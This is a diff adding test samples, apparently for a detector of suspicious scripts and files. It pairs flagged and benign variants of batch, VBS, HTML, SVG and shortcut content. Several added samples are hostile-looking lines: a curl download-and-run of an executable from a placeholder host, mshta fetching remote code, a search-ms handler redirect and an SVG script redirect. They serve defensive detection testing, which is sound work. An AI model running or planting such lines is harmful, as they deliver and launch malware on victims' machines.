@@ -23,6 +23,28 @@ SAMPLES: dict[str, tuple[str, str | bytes, str | bytes]] = {
     "execute.text": ("a.ps1", "iex $a", "Write-Host 'index'"),
     "execute.basic": ("a.vbs", "Execute x", 'x = "executed"'),
     "execute.start": ("a.bat", 'start "" "%TEMP%\\a.exe"', 'start "" "a.exe"'),
+    "execute.fetched": (
+        "a.bat",
+        "curl http://example.invalid/a.exe -o a.exe\na.exe",
+        "curl http://example.invalid/a.exe -o a.exe\nb.exe",
+    ),
+    "execute.direct": (
+        "a.bat",
+        "mshta http://example.invalid/a",
+        "rem " + "x" * 4000 + "\nmshta http://example.invalid/a",
+    ),
+    "execute.unnamed": ("a.vbs", "Set s = CreateObject(f(1))\ns.Run x", 'Set s = CreateObject("a.b")\ns.Run x'),
+    "execute.link": ("a.lnk", shortcut("wscript.exe", "hidden\\a.js"), shortcut("wscript.exe", "C:\\tools\\a.js")),
+    "execute.handler": (
+        "a.html",
+        "<html><script>location='search-ms:query=a&crumb=location:x'</script>",
+        "<html><script>location='search?location:x'</script>",
+    ),
+    "phish.picture": (
+        "a.svg",
+        '<svg xmlns="http://www.w3.org/2000/svg"><script>location.href="https://example.invalid/"</script></svg>',
+        '<svg xmlns="http://www.w3.org/2000/svg"><script>fill("https://example.invalid/")</script></svg>',
+    ),
     "inject.memory": ("a.ps1", "$a::VirtualAlloc(0, 9)", "$a::Allocate(0, 9)"),
     "inject.assembly": (
         "a.ps1",
